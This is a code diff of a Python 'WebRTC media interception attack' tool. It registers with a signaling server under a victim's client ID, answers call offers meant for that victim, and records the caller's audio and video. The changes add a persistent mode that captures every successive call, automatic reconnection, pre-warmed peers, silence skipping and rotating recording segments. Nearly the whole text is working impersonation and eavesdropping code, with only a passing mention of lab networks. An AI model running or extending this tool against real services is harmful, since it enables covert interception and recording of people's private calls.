+                         f"max={max(renegotiations) * 1e3:.1f}ms")
+        return line
+
+
+async def start_call(
+    signaling: SignalingClient,
+    cfg: AttackConfig,
+    offer_message: dict,
+    timings: Optional[OfferTimings] = None,
+    peer: Optional[PeerResources] = None,
+    output_file: Optional[Path] = None,
+    index: int = 1,
+) -> Optional[CallSession]:
+    """
+    Answer the first offer of a call:
 
-        asyncio.create_task(ws.send(msg_text))
+    1. Parse the SDP offer and caller's clientId ("from" field).
+    2. Create an RTCPeerConnection + MediaRecorder (or use `peer`, prepared
+       in warm mode) recording to `output_file` (default cfg.output_file).
+    3. Set the remote description (offer), generate an answer,
+       set the local description.
+    4. Send the answer back to the caller through the signaling server.
 
-    @pc.on("iceconnectionstatechange")
-    async def on_ice_state_change():
-        log(f"[*] ICE connection state changed: {pc.iceConnectionState}")
+    Returns the CallSession, now receiving media, or None if the offer
+    could not be answered (`peer` is then closed).
+    """
+    if timings is None:
+        timings = OfferTimings()
+    t_start = time.perf_counter()
 
     # ------------------------------------------------------------------
-    # 5. Set the remote description (offer) and create an answer
+    # 1. Extract essential fields from the offer
     # ------------------------------------------------------------------
-    offer = RTCSessionDescription(sdp=sdp, type="offer")
-    await pc.setRemoteDescription(offer)
-    log("[+] Remote description (offer) set on RTCPeerConnection.")
+    sdp: str = offer_message.get("sdp", "")
+    from_client: Optional[str] = offer_message.get("from")
+
+    if not sdp or not from_client:
+        if not sdp:
+            log("[!] Received 'offer' message WITHOUT SDP. Cannot proceed.")
+        else:
+            log("[!] Received 'offer' message WITHOUT 'from' field. Cannot respond.")
+        if peer is not None:
+            await peer.close()
+        return None
+
+    log(f"[+] Intercepted WebRTC offer from caller '{from_client}' "
+        f"intended for victim '{cfg.victim_id}'.")
 
-    log("[*] Creating SDP answer ...")
-    answer = await pc.createAnswer()
-    await pc.setLocalDescription(answer)
-    log("[+] Local description (answer) set.")
+    # Usually already loaded by the preload; otherwise this is the one
+    # place the offer waits for it (counted in the setup phase).
+    await media_stack_ready()
 
     # ------------------------------------------------------------------
-    # 6. Send the 'answer' message via signaling server
+    # 2. Output directory, MediaRecorder and RTCPeerConnection
+    #    (already built in warm mode)
     # ------------------------------------------------------------------
-    answer_payload = {
-        "to": from_client,
-        "type": "answer",
-        "sdp": pc.localDescription.sdp,
-    }
-    answer_text = json.dumps(answer_payload)
-    log(f"[C → S] Sending intercepted SDP answer back to caller '{from_client}'.")
-    await ws.send(answer_text)
+    if output_file is None:
+        output_file = cfg.output_file
+    if peer is None:
+        peer = create_peer(cfg, output_file)
+        log("[*] RTCPeerConnection created.")
+    else:
+        timings.warm_prepare = peer.prepared_in
+        log("[*] Using pre-warmed RTCPeerConnection.")
+    log(f"[*] Recorded media will be saved to: '{output_file}'")
 
+    try:
+        call = CallSession(signaling, cfg, from_client, peer, output_file, index)
+    except BaseException:
+        await peer.close()
+        raise
+    timings.setup = time.perf_counter() - t_start
+
+    # ------------------------------------------------------------------
+    # 3-4. Offer / answer exchange
+    # ------------------------------------------------------------------
+    try:
+        await call.negotiate(sdp, timings, t_start)
+    except BaseException:
+        await call.close()
+        raise
+
+    STARTUP.mark("answer sent")
+    if cfg.startup_profile:
+        log(STARTUP.report())
+    if timings.warm_prepare:
+        log(f"[*] Warm mode took {timings.warm_prepare * 1e3:.1f} ms of setup off the "
+            f"offer path (hand-over: {timings.setup * 1e3:.1f} ms).")
     log("[+] SDP answer sent. Waiting for ICE candidates and media ...")
+    return call
+
+
+async def handle_offer_and_media(
+    signaling: SignalingClient,
+    cfg: AttackConfig,
+    offer_message: dict,
+    timings: Optional[OfferTimings] = None,
+    peer: Optional[PeerResources] = None,
+) -> None:
+    """
+    Handle a single WebRTC offer from the signaling server: answer it with
+    start_call(), then keep the connection alive to receive media and
+    handle ICE candidates until the signaling connection closes.
+
+    `signaling` is the connection's SignalingClient; remote ICE candidates
+    are applied by a handler in their own worker task, so a slow
+    addIceCandidate() never delays reading the next message.
+
+    If `peer` is given (warm mode), its pre-built RTCPeerConnection and
+    MediaRecorder are used instead of constructing them here.
+
+    The duration of each phase up to sending the answer is logged and, if
+    `timings` is given, stored in it (used by bench/offer_answer.py).
+    """
+    call = await hooked("signaling.offer", start_call)(signaling, cfg, offer_message, timings, peer)
+    if call is None:
+        return
 
     # ------------------------------------------------------------------
-    # 7. Inner loop: process subsequent signaling messages (ICE, etc.)
+    # Process subsequent signaling messages (ICE, etc.) until the
+    # signaling connection closes
     # ------------------------------------------------------------------
+    # run_attack() only lets frames addressed to the victim through.
+    async def on_other(msg: dict) -> None:
+        if msg.get("type") == "offer":
+            log("[*] Additional 'offer' received after initial negotiation; "
+                "ignoring (run with --persistent to handle renegotiation).")
+        else:
+            log(f"[*] Ignoring signaling message of type '{msg.get('type')}'.")
+
     try:
-        while True:
-            raw_msg = await ws.recv()
-            log(f"[S → C] Raw signaling message (post-offer): {raw_msg}")
+        signaling.on("ice", hooked("signaling.ice", call.add_remote_ice))
+        for msg_type in QUEUED_TYPES:
+            if msg_type != "ice":
+                signaling.on(msg_type, hooked(f"signaling.{msg_type}", on_other))
+
+        closed = await signaling.wait_closed()
+        if isinstance(closed, websockets.exceptions.ConnectionClosedOK):
+            log("[*] WebSocket connection closed cleanly.")
+        else:
+            log(f"[!] WebSocket connection closed with error: {closed}")
+    finally:
+        await call.close()
+
+
+class CallSequence:
+    """
+    Successive calls on one registration (--persistent).
+
+    run() takes offers and ICE candidates from the signaling connection in
+    arrival order. An offer from the caller of the open call is a
+    renegotiation and is applied to its RTCPeerConnection; an offer from
+    anyone else, or after the open call's peer connection has failed or
+    been closed, ends that call (finalizing its recording) and starts the
+    next one, recording to call_output_file(). A call whose peer connection
+    ends is also torn down right away, without waiting for the next offer.
+    An offer that cannot be answered is logged and dropped (a failed
+    renegotiation ends its call); the sequence keeps handling offers.
+
+    The media stack stays loaded and, with cfg.warm, the next call's
+    RTCPeerConnection + MediaRecorder are prepared while the current one
+    runs. One CallSequence lives for the whole run, across reconnects;
+    close() releases what is left and logs every call's summary.
+    """
 
+    def __init__(self, cfg: AttackConfig) -> None:
+        self.cfg = cfg
+        self.calls: List[CallSession] = []
+        self.current: Optional[CallSession] = None
+        self.offers = 0
+        self.renegotiations = 0
+        self._next = 1
+        self._warm: Optional[WarmPeer] = None
+        self._lock = asyncio.Lock()
+        self._watchers: List[asyncio.Task] = []
+
+    async def run(self, signaling: SignalingClient) -> None:
+        """
+        Handle calls on `signaling` until the connection closes, then end
+        the open call.
+        """
+        # Frames of these types are only logged; offers and ICE candidates
+        # are taken below, in the order they arrived.
+        async def on_other(msg: dict) -> None:
+            log(f"[*] Ignoring signaling message of type '{msg.get('type')}'.")
+
+        for msg_type in QUEUED_TYPES:
+            if msg_type not in ("offer", "ice"):
+                signaling.on(msg_type, hooked(f"signaling.{msg_type}", on_other))
+        self._prepare_next()
+        on_offer = hooked("signaling.offer", self._on_offer)
+        on_ice = hooked("signaling.ice", self._on_ice)
+
+        try:
+            while True:
+                msg = await signaling.recv("offer", "ice")
+                async with self._lock:
+                    if msg.get("type") == "offer":
+                        await on_offer(signaling, msg)
+                    else:
+                        await on_ice(msg)
+        except websockets.exceptions.ConnectionClosedOK:
+            log("[*] WebSocket connection closed cleanly.")
+        except websockets.exceptions.ConnectionClosed as closed:
+            log(f"[!] WebSocket connection closed with error: {closed}")
+        finally:
+            async with self._lock:
+                await self._end_call("signaling connection closed")
+
+    async def _on_offer(self, signaling: SignalingClient, msg: dict) -> None:
+        STARTUP.mark("offer received")
+        self.offers += 1
+        caller = msg.get("from")
+        call = self.current
+        if call is not None and not call.ended.is_set() and caller == call.caller:
+            sdp = msg.get("sdp")
+            if not sdp:
+                log(f"[!] Renegotiation offer from '{caller}' WITHOUT SDP; ignoring it "
+                    f"(call {call.index} continues).")
+                return
+            self.renegotiations += 1
+            log(f"[+] Renegotiation offer from '{caller}' for call {call.index}.")
             try:
-                msg = json.loads(raw_msg)
-            except json.JSONDecodeError:
-                log("[!] Non-JSON signaling message received; ignoring.")
-                continue
-
-            msg_type = msg.get("type")
-            msg_to = msg.get("to")
-
-            # Ignore messages not addressed to us
-            if msg_to != cfg.victim_id:
-                continue
-
-            if msg_type == "ice":
-                cand_obj = msg.get("candidate")
-                if not cand_obj:
-                    log("[!] 'ice' message without 'candidate' field; ignoring.")
-                    continue
-
-                try:
-                    candidate = RTCIceCandidate(
-                        cand_obj.get("sdpMid"),
-                        cand_obj.get("sdpMLineIndex"),
-                        cand_obj.get("candidate"),
-                    )
-                    log(f"[+] Adding remote ICE candidate from '{msg.get('from', 'unknown')}': "
-                        f"{cand_obj}")
-                    await pc.addIceCandidate(candidate)
-                except Exception as e:
-                    log(f"[!] Failed to add remote ICE candidate: {e}")
-
-            elif msg_type == "offer":
-                log("[*] Additional 'offer' received after initial negotiation; "
-                    "ignoring (no renegotiation implemented).")
-
-            else:
-                log(f"[*] Ignoring signaling message of type '{msg_type}'.")
-
-    except websockets.exceptions.ConnectionClosedOK:
-        log("[*] WebSocket connection closed cleanly.")
-    except websockets.exceptions.ConnectionClosedError as e:
-        log(f"[!] WebSocket connection closed with error: {e}")
-    finally:
-        log("[*] Cleaning up: stopping recorder and closing RTCPeerConnection.")
-        if recorder_started:
-            await recorder.stop()
-            log("[+] MediaRecorder stopped.")
-        await pc.close()
-        log("[+] RTCPeerConnection closed.")
+                await call.negotiate(sdp, OfferTimings())
+            except websockets.exceptions.ConnectionClosed:
+                raise
+            except Exception as e:
+                # The peer connection is in an unknown state; finish the
+                # recording and wait for the next offer.
+                log(f"[!] Renegotiation of call {call.index} failed: {e!r}")
+                await self._end_call("renegotiation failed")
+            return
+        if call is not None:
+            await self._end_call(f"peer connection {call.pc.connectionState}"
+                                 if call.ended.is_set() else f"new caller '{caller}'")
+
+        index, self._next = self._next, self._next + 1
+        peer = None
+        if self._warm is not None:
+            warm, self._warm = self._warm, None
+            peer = await warm.take()
+        log(f"[*] Starting call {index}.")
+        try:
+            call = await start_call(signaling, self.cfg, msg, peer=peer,
+                                    output_file=call_output_file(self.cfg, index), index=index)
+        except websockets.exceptions.ConnectionClosed:
+            raise
+        except Exception as e:
+            # start_call() has closed the call; keep handling offers.
+            log(f"[!] Call {index}: answering the offer from '{caller}' failed: {e!r}")
+            call = None
+        finally:
+            self._prepare_next()
+        if call is None:
+            return
+        self.current = call
+        self.calls.append(call)
+        self._watchers.append(asyncio.create_task(self._watch(call)))
+
+    async def _on_ice(self, msg: dict) -> None:
+        if self.current is not None and msg.get("from") == self.current.caller:
+            await self.current.add_remote_ice(msg)
+        else:
+            log(f"[*] Ignoring ICE candidate from '{msg.get('from')}' "
+                f"(no open call with that caller).")
+
+    async def _watch(self, call: CallSession) -> None:
+        await call.ended.wait()
+        async with self._lock:
+            if self.current is call:
+                await self._end_call(f"peer connection {call.pc.connectionState}")
+
+    async def _end_call(self, reason: str) -> None:
+        call, self.current = self.current, None
+        if call is None:
+            return
+        log(f"[*] Ending call {call.index} ({reason}).")
+        await call.close()
+        log(f"[*] {call.summary()}")
+
+    def _prepare_next(self) -> None:
+        if self.cfg.warm and self._warm is None:
+            self._warm = WarmPeer(self.cfg, call_output_file(self.cfg, self._next))
+            self._warm.start()
+
+    async def close(self) -> None:
+        """
+        End the open call, release the prepared peer and log the summary.
+        """
+        async with self._lock:
+            await self._end_call("shutting down")
+        for task in self._watchers:
+            task.cancel()
+        if self._warm is not None:
+            await self._warm.close()
+            self._warm = None
+        if self.calls:
+            log(f"[*] Calls handled: {len(self.calls)} ({self.offers} offer(s), "
+                f"{self.renegotiations} renegotiation(s)):\n"
+                + "\n".join(f"    {call.summary()}" for call in self.calls))
 
 
 async def run_attack(cfg: AttackConfig) -> None:
@@ -320,79 +1181,170 @@ async def run_attack(cfg: AttackConfig) -> None:
     3. Wait for the first WebRTC 'offer' addressed to victim_id.
     4. Delegate to handle_offer_and_media() to set up the RTC connection
        and receive media.
+
+    Steps 1-3 run under a ConnectionSupervisor (common/supervisor.py): if
+    the connection fails, drops or stops answering pings before an offer
+    has been handled, it reconnects with exponential backoff and registers
+    again.
+
+    With cfg.warm, the RTCPeerConnection and MediaRecorder are prepared
+    during steps 2-3 and handed over when the offer arrives; if no offer is
+    handled they are closed on the way out.
+
+    With cfg.persistent, steps 3-4 are replaced by a CallSequence that
+    handles every call (and renegotiation) on the registration until the
+    program is stopped; a lost connection is re-established and the calls
+    continue on the new one.
+
+    With cfg.loop_profile, a LoopMonitor watches the event loop for the
+    whole run and its report is logged on the way out (and on SIGUSR1).
     """
+    global LOOP_MONITOR
 
     log(f"[*] Starting WebRTC media interception attack:")
     log(f"    - server_url   = {cfg.server_url}")
     log(f"    - victim_id    = {cfg.victim_id}")
     log(f"    - display_name = {cfg.display_name or '(auto-generated)'}")
     log(f"    - output_file  = {cfg.output_file}")
+    log(f"    - log_file     = {cfg.log_file or '(stdout only)'}")
+    log(f"    - ice_servers  = "
+        f"{'(host only)' if cfg.ice_servers == [] else cfg.ice_servers or DEFAULT_ICE_SERVERS}")
+    log(f"    - ice_gather_timeout = "
+        f"{'aioice default (5 s)' if cfg.ice_gather_timeout is None else cfg.ice_gather_timeout}")
+    log(f"    - warm         = {cfg.warm}")
+    log(f"    - persistent   = {cfg.persistent}")
+    log(f"    - capture_mode = {cfg.capture_mode}")
+    log(f"    - media stack  = "
+        f"{'preloading in the background' if cfg.preload else 'imported when the offer arrives'}")
+    if cfg.capture_mode == "process":
+        log(f"    - encode_queue = {cfg.encode_queue} ({cfg.encode_on_full} when full)")
+    if cfg.vad:
+        log(f"    - vad          = skip silence below {cfg.vad_threshold_db:g} dBFS "
+            f"({cfg.vad_window_ms:g} ms windows, {cfg.vad_hangover_ms:g} ms hangover)"
+            + ("; not applied (passthrough audio is not decoded)"
+               if cfg.capture_mode == "passthrough" else ""))
+    if cfg.segment_seconds > 0 or cfg.segment_mb > 0:
+        log(f"    - segments     = every {cfg.segment_seconds or '-'} s / "
+            f"{cfg.segment_mb or '-'} MB, keep {cfg.segment_keep or 'all'}")
+    log(f"    - stats        = every {cfg.stats_interval} s" if cfg.stats_interval > 0
+        else "    - stats        = off")
+    if cfg.metrics_port is not None:
+        log(f"    - metrics      = http://{cfg.metrics_host}:{cfg.metrics_port}/metrics")
+    if cfg.loop_profile:
+        log(f"    - loop profile = stalls over {cfg.loop_threshold_ms:g} ms "
+            f"(report on exit and on SIGUSR1)")
+        LOOP_MONITOR = loopmon.LoopMonitor(threshold=cfg.loop_threshold_ms / 1e3, log=log)
+        LOOP_MONITOR.start()
 
     # ----------------------------------------------------------------------
-    # 1. Connect to the signaling server as a WebSocket client
+    # 1. Connect to the signaling server as a WebSocket client (and
+    #    reconnect until an offer has been handled)
     # ----------------------------------------------------------------------
-    log(f"[*] Connecting to signaling server at '{cfg.server_url}' ...")
-    async with websockets.connect(cfg.server_url) as ws:
-        log("[+] Connected to signaling server.")
-
-        # ------------------------------------------------------------------
-        # 2. Send registration message impersonating victim_id
-        # ------------------------------------------------------------------
-        display_name = cfg.display_name or f"webrtc-attacker-{cfg.victim_id}"
-        register_msg = {
-            "type": "register",
-            "clientId": cfg.victim_id,
-            "meta": {
-                "displayName": display_name,
-            },
-        }
-
-        msg_text = json.dumps(register_msg)
-        log(f"[C → S] Registration message (impersonating '{cfg.victim_id}'): {msg_text}")
-        await ws.send(msg_text)
-
-        # Wait for the server's response, expecting {"type":"registered","clientId":...}
-        log("[*] Waiting for registration confirmation from server ...")
-        raw_resp = await ws.recv()
-        log(f"[S → C] Raw registration response: {raw_resp}")
-
-        try:
-            resp = json.loads(raw_resp)
-        except json.JSONDecodeError:
-            log("[!] Registration response is not valid JSON; aborting attack.")
-            return
-
-        if resp.get("type") != "registered" or resp.get("clientId") != cfg.victim_id:
-            log("[!] Unexpected registration response; "
-                "server did NOT confirm us as the victim. Aborting.")
-            return
+    conn = supervisor.ConnectionSupervisor(
+        cfg.server_url,
+        supervisor.BackoffPolicy(
+            first_delay=cfg.reconnect_first_delay,
+            max_delay=cfg.reconnect_max_delay,
+        ),
+        ping_interval=cfg.ping_interval,
+        ping_timeout=cfg.ping_timeout,
+        log=log,
+    )
 
-        log(f"[+] Successfully registered as victim clientId='{cfg.victim_id}'.")
-        log("[*] Waiting to intercept the first WebRTC 'offer' ...")
+    if cfg.preload:
+        preload_media_stack()
 
-        # ------------------------------------------------------------------
-        # 3. Wait until we receive the first 'offer' addressed to victim_id
-        # ------------------------------------------------------------------
-        while True:
-            raw_msg = await ws.recv()
-            log(f"[S → C] Raw signaling message: {raw_msg}")
+    calls = CallSequence(cfg) if cfg.persistent else None
 
-            try:
-                msg = json.loads(raw_msg)
-            except json.JSONDecodeError:
-                log("[!] Non-JSON signaling message received; ignoring.")
-                continue
+    async def session(ws: "WebSocketClientProtocol") -> bool:
+        """
+        One signaling connection: register, wait for the offer, handle it.
+        Returns True when done (offer handled or registration refused);
+        connection errors propagate so the supervisor reconnects. In
+        persistent mode it returns False when the connection closes, so
+        the supervisor reconnects as well.
+        """
+        # In warm mode, build the RTCPeerConnection + MediaRecorder while we
+        # wait for the registration response and the offer (the CallSequence
+        # does this itself in persistent mode).
+        warm = WarmPeer(cfg) if cfg.warm and calls is None else None
+        if warm is not None:
+            warm.start()
+
+        # One reader task for the whole connection; messages are picked up
+        # by type below and by the handlers in handle_offer_and_media().
+        # Routed frames for other clients are dropped.
+        def for_victim(frame) -> bool:
+            return frame.type not in ROUTED_TYPES or frame.to == cfg.victim_id
+
+        signaling = SignalingClient(ws, log=log, accept=for_victim)
+        signaling.start()
+        STARTUP.mark("connected")
 
-            msg_type = msg.get("type")
-            msg_to = msg.get("to")
+        try:
+            # --------------------------------------------------------------
+            # 2. Send registration message impersonating victim_id
+            # --------------------------------------------------------------
+            display_name = cfg.display_name or f"webrtc-attacker-{cfg.victim_id}"
+            register_msg = {
+                "type": "register",
+                "clientId": cfg.victim_id,
+                "meta": {
+                    "displayName": display_name,
+                },
+            }
+
+            msg_text = await signaling.send(register_msg)
+            log(f"[C → S] Registration message (impersonating '{cfg.victim_id}'): {msg_text}")
+
+            # Wait for the server's response, expecting {"type":"registered","clientId":...}
+            log("[*] Waiting for registration confirmation from server ...")
+            resp = await signaling.recv("registered", "error")
+
+            if resp.get("type") != "registered" or resp.get("clientId") != cfg.victim_id:
+                log("[!] Unexpected registration response; "
+                    "server did NOT confirm us as the victim. Aborting.")
+                return True
+
+            STARTUP.mark("registered")
+            log(f"[+] Successfully registered as victim clientId='{cfg.victim_id}'.")
+
+            if calls is not None:
+                log("[*] Persistent mode: handling calls until stopped ...")
+                await calls.run(signaling)
+                return False
+
+            log("[*] Waiting to intercept the first WebRTC 'offer' ...")
+
+            # --------------------------------------------------------------
+            # 3. Wait until we receive the first 'offer' addressed to victim_id
+            #    (other message types stay queued for the handlers)
+            # --------------------------------------------------------------
+            msg = await signaling.recv("offer")
+            STARTUP.mark("offer received")
+            log("[+] First WebRTC offer for victim intercepted. "
+                "Starting media interception flow.")
+            peer = await warm.take() if warm is not None else None
+            await handle_offer_and_media(signaling, cfg, msg, peer=peer)
+            return True
+        finally:
+            await signaling.close()
+            log("[*] Signaling messages:\n" + signaling.stats())
+            if warm is not None:
+                await warm.close()
 
-            if msg_type == "offer" and msg_to == cfg.victim_id:
-                log("[+] First WebRTC offer for victim intercepted. "
-                    "Starting media interception flow.")
-                await handle_offer_and_media(ws, cfg, msg)
-                break
-            else:
-                log(f"[*] Ignoring signaling message type='{msg_type}', to='{msg_to}'.")
+    try:
+        await conn.run(session)
+    finally:
+        if calls is not None:
+            await calls.close()
+        log("[*] Connection statistics:\n" + conn.stats.summary())
+        if cfg.startup_profile and not STARTUP.done("answer sent"):
+            log(STARTUP.report())
+        if LOOP_MONITOR is not None:
+            LOOP_MONITOR.stop()
+            log(LOOP_MONITOR.report())
+            LOOP_MONITOR = None
 
 
 # ---------------------------------------------------------------------------
@@ -441,6 +1393,250 @@ def parse_args() -> AttackConfig:
         ),
     )
 
+    parser.add_argument(
+        "--log-file",
+        default=None,
+        help=(
+            "Optional path of a log file that receives the same lines as "
+            "stdout. Written by a background thread in batches."
+        ),
+    )
+
+    parser.add_argument(
+        "--log-max-bytes",
+        type=int,
+        default=0,
+        help="Rotate the log file beyond this many bytes (default: 0, no rotation)",
+    )
+
+    ice_group = parser.add_mutually_exclusive_group()
+    ice_group.add_argument(
+        "--ice-server",
+        action="append",
+        default=None,
+        metavar="URL",
+        help=(
+            "STUN/TURN server URL, e.g. stun:stun.example.org:3478 or "
+            "turn:10.0.0.1:3478?transport=udp. May be repeated (aiortc uses "
+            f"the first STUN and first TURN URL). Default: {DEFAULT_ICE_SERVERS[0]}"
+        ),
+    )
+    ice_group.add_argument(
+        "--host-only",
+        action="store_true",
+        help=(
+            "Use no STUN/TURN servers at all and only offer host candidates. "
+            "Use this on isolated lab networks so gathering does not wait on "
+            "an unreachable STUN server."
+        ),
+    )
+
+    parser.add_argument("--ice-username", default=None, help="Username for TURN servers")
+    parser.add_argument("--ice-credential", default=None, help="Credential for TURN servers")
+
+    parser.add_argument(
+        "--ice-gather-timeout",
+        type=float,
+        default=None,
+        metavar="SECONDS",
+        help=(
+            "Hard cap on how long candidate gathering waits for STUN/TURN "
+            "responses before the answer is sent (default: aioice's 5 s)."
+        ),
+    )
+
+    parser.add_argument(
+        "--warm",
+        action="store_true",
+        help=(
+            "Prepare the RTCPeerConnection and MediaRecorder while waiting for "
+            "the offer, so their construction is not on the answer's critical "
+            "path. The time saved is logged when the answer is sent."
+        ),
+    )
+
+    parser.add_argument(
+        "--persistent",
+        action="store_true",
+        help=(
+            "Stay registered and handle successive calls on one signaling "
+            "connection instead of exiting after the first call. A new offer "
+            "from the same caller renegotiates the open call; an offer from "
+            "another caller, or after the call's connection ended, starts a "
+            "new call recorded to its own file (OUTPUT with .callNNN before "
+            "the extension). Per-call setup timings are logged when each call "
+            "ends and for all calls on exit (Ctrl+C)."
+        ),
+    )
+
+    parser.add_argument(
+        "--capture-mode",
+        choices=CAPTURE_MODES,
+        default="recorder",
+        help=(
+            "'recorder' (default) decodes and re-encodes media with aiortc's "
+            "MediaRecorder. 'passthrough' writes the received VP8/Opus frames "
+            "into the WebM file unchanged (no decode, no encode); use "
+            "'python passthrough.py transcode' afterwards if another format "
+            "is needed. 'process' re-encodes like 'recorder' but in a worker "
+            "process, so encoding never stalls signaling. CPU time per second "
+            "of media is logged for all modes."
+        ),
+    )
+
+    parser.add_argument(
+        "--encode-queue",
+        type=int,
+        default=8,
+        help=(
+            "With --capture-mode process: decoded frames per track that may "
+            "wait for the encoder process (default: 8)."
+        ),
+    )
+
+    parser.add_argument(
+        "--encode-on-full",
+        choices=ENCODE_ON_FULL_POLICIES,
+        default="drop",
+        help=(
+            "With --capture-mode process: what to do with a frame when the "
+            "encode queue is full. 'drop' (default) discards it so capture "
+            "keeps up with real time; 'block' waits for the encoder, losing "
+            "nothing but falling behind."
+        ),
+    )
+
+    parser.add_argument(
+        "--segment-seconds",
+        type=float,
+        default=0.0,
+        help=(
+            "Split the recording into segments of at most this many seconds "
+            "(<output stem>.00000<suffix>, ...), each finalized and playable "
+            "on its own, plus <output stem>.manifest.json. Default: 0 (off)."
+        ),
+    )
+
+    parser.add_argument(
+        "--segment-mb",
+        type=float,
+        default=0.0,
+        help="Also start a new segment once the current one reaches this size (default: 0 = off).",
+    )
+
+    parser.add_argument(
+        "--segment-keep",
+        type=int,
+        default=0,
+        help=(
+            "Keep only the newest N segments on disk, deleting older ones "
+            "(default: 0 = keep all)."
+        ),
+    )
+
+    parser.add_argument(
+        "--vad",
+        action="store_true",
+        help=(
+            "Skip long silences in the recorded audio: frames whose level "
+            "stays below --vad-threshold for longer than --vad-hangover are "
+            "not encoded or written (timestamps are kept, so audio and video "
+            "stay in sync). The skipped spans are listed in "
+            "OUTPUT.activity.json. Needs decoded audio, so it is not applied "
+            "with --capture-mode passthrough."
+        ),
+    )
+
+    parser.add_argument(
+        "--vad-threshold",
+        type=float,
+        default=-45.0,
+        help="Window level in dBFS counted as activity (default: -45).",
+    )
+
+    parser.add_argument(
+        "--vad-window",
+        type=float,
+        default=20.0,
+        help="Analysis window in ms (default: 20, one Opus frame).",
+    )
+
+    parser.add_argument(
+        "--vad-hangover",
+        type=float,
+        default=500.0,
+        help=(
+            "Audio still recorded after the last active window, in ms, so "
+            "short pauses and word endings are kept (default: 500)."
+        ),
+    )
+
+    parser.add_argument(
+        "--stats-interval",
+        type=float,
+        default=5.0,
+        help=(
+            "Seconds between per-track media statistics (fps, bitrate, loss, "
+            "jitter, recorder lag) written to the log (default: 5; 0 = off)."
+        ),
+    )
+
+    parser.add_argument(
+        "--metrics-port",
+        type=int,
+        default=None,
+        help=(
+            "Serve the latest media statistics in Prometheus text format on "
+            "this port (default: off)."
+        ),
+    )
+
+    parser.add_argument(
+        "--metrics-host",
+        default="127.0.0.1",
+        help="Address for --metrics-port (default: 127.0.0.1).",
+    )
+
+    parser.add_argument(
+        "--no-preload",
+        action="store_true",
+        help=(
+            "Do not import the media stack (aiortc, PyAV, codecs) in the "
+            "background while connecting and waiting for the offer; import "
+            "it only when an offer arrives, on the offer's critical path."
+        ),
+    )
+
+    parser.add_argument(
+        "--startup-profile",
+        action="store_true",
+        help=(
+            "Log how long startup took up to each phase (imports, argument "
+            "parsing, connect, registration, offer, answer) and the import "
+            "time of each media module."
+        ),
+    )
+
+    parser.add_argument(
+        "--loop-profile",
+        action="store_true",
+        help=(
+            "Measure event-loop lag, time every signaling handler and "
+            "peer-connection callback, and log each stall of the loop with "
+            "the stack it happened in. A summary table is logged on exit and "
+            "on SIGUSR1."
+        ),
+    )
+
+    parser.add_argument(
+        "--loop-threshold-ms",
+        type=float,
+        default=100.0,
+        help="Event-loop lag (ms) reported as a stall with --loop-profile (default: 100).",
+    )
+
+    supervisor.add_arguments(parser)
+
     args = parser.parse_args()
 
     cfg = AttackConfig(
@@ -448,6 +1644,35 @@ def parse_args() -> AttackConfig:
         victim_id=args.victim_id,
         display_name=args.display_name,
         output_file=Path(args.output),
+        log_file=Path(args.log_file) if args.log_file else None,
+        log_max_bytes=args.log_max_bytes,
+        ice_servers=[] if args.host_only else args.ice_server,
+        ice_username=args.ice_username,
+        ice_credential=args.ice_credential,
+        ice_gather_timeout=args.ice_gather_timeout,
+        warm=args.warm,
+        persistent=args.persistent,
+        capture_mode=args.capture_mode,
+        encode_queue=args.encode_queue,
+        encode_on_full=args.encode_on_full,
+        segment_seconds=args.segment_seconds,
+        segment_mb=args.segment_mb,
+        segment_keep=args.segment_keep,
+        vad=args.vad,
+        vad_threshold_db=args.vad_threshold,
+        vad_window_ms=args.vad_window,
+        vad_hangover_ms=args.vad_hangover,
+        stats_interval=args.stats_interval,
+        metrics_host=args.metrics_host,
+        metrics_port=args.metrics_port,
+        reconnect_first_delay=args.reconnect_first_delay,
+        reconnect_max_delay=args.reconnect_max_delay,
+        ping_interval=args.ping_interval,
+        ping_timeout=args.ping_timeout,
+        preload=not args.no_preload,
+        startup_profile=args.startup_profile,
+        loop_profile=args.loop_profile,
+        loop_threshold_ms=args.loop_threshold_ms,
     )
     return cfg
 
@@ -458,12 +1683,23 @@ def main() -> None:
       1. Parses CLI arguments into an AttackConfig.
       2. Runs the asynchronous attack logic with asyncio.
     """
+    global LOG_SINK
+
     cfg = parse_args()
+    STARTUP.mark("argument parsing")
+
+    if cfg.log_file is not None:
+        cfg.log_file.parent.mkdir(parents=True, exist_ok=True)
+        LOG_SINK = logsink.get_sink(str(cfg.log_file), max_bytes=cfg.log_max_bytes)
 
     try:
         asyncio.run(run_attack(cfg))
     except KeyboardInterrupt:
         log("[!] Attack interrupted by user (Ctrl+C). Exiting.")
+    finally:
+        LOG_SINK = None
+        for path, stats in logsink.close_all().items():
+            log(f"[*] Log sink '{path}': {stats.summary()}")
 
 
 if __name__ == "__main__":